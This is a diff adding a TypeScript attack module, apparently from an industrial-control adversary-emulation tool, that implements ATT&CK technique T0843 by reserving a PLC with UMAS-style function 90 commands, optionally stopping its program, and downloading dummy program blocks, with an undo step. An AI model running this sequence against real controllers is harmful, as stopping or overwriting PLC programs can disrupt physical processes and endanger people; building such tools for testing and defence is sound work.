@@ -1,0 +1,60 @@
+// T0843 Program Download: a foreign workstation reserves the PLC with function 90, after the manner of UMAS, and sends blocks of
+// a program. When it is told to, it stops the program that runs.
+import { z } from 'zod'
+import type { Attack } from './attack.ts'
+import { EverySeconds, wordBytes } from './burst.ts'
+import { answered, KeptLink } from './kept-link.ts'
+
+const FUNCTION = 90
+const READ_ID = 0x02
+const RESERVE = 0x10
+const RELEASE = 0x11
+const BLOCK = 0x31
+const RUN = 0x40
+const STOP = 0x41
+const DONE = 0xfe
+
+const Parameters = z.strictObject({
+  stop: z.boolean().default(false).describe('Whether the program of the PLC is stopped as well.'),
+  blocks: z.int().min(1).max(50).default(5).describe('How many blocks of the program are sent at each strike.'),
+  blockBytes: z.int().min(1).max(200).default(200).describe('How long a block is.'),
+  everySeconds: EverySeconds
+})
+
+export const programMode = {
+  name: 'program-mode',
+  title: { zh: '程序下装', en: 'Program download' },
+  technique: 'T0843',
+  parameters: Parameters,
+  async aim(foothold, { stop, blocks, blockBytes, everySeconds }) {
+    const link = await KeptLink.open(foothold)
+    let session = 0
+    let sent = 0
+    const say = (what: number, ...bytes: number[]) => link.request(Uint8Array.of(FUNCTION, session, what, ...bytes))
+    const enter = async () => {
+      await say(READ_ID)
+      const reply = await say(RESERVE)
+      if (reply[0] !== FUNCTION || reply[2] !== DONE) return
+      session = reply[3] ?? 0
+      if (stop) await say(STOP)
+    }
+    const download = async () => {
+      if (session === 0) await enter()
+      for (let i = 0; i < blocks; i++, sent++) await say(BLOCK, ...wordBytes(sent & 0xffff), ...blockOf(sent, blockBytes))
+    }
+    return {
+      ...{ tags: [], hosts: [link.host], insistSeconds: everySeconds },
+      strike: async () => void (await answered(download)),
+      async undo() {
+        if (session !== 0) {
+          if (stop) await say(RUN)
+          await say(RELEASE)
+        }
+        await link.cut()
+      }
+    }
+  }
+} satisfies Attack<typeof Parameters>
+
+// Code as good as any: no PLC is to run it.
+const blockOf = (number: number, bytes: number): number[] => Array.from({ length: bytes }, (_, i) => (number * 31 + i * 7) & 0xff)
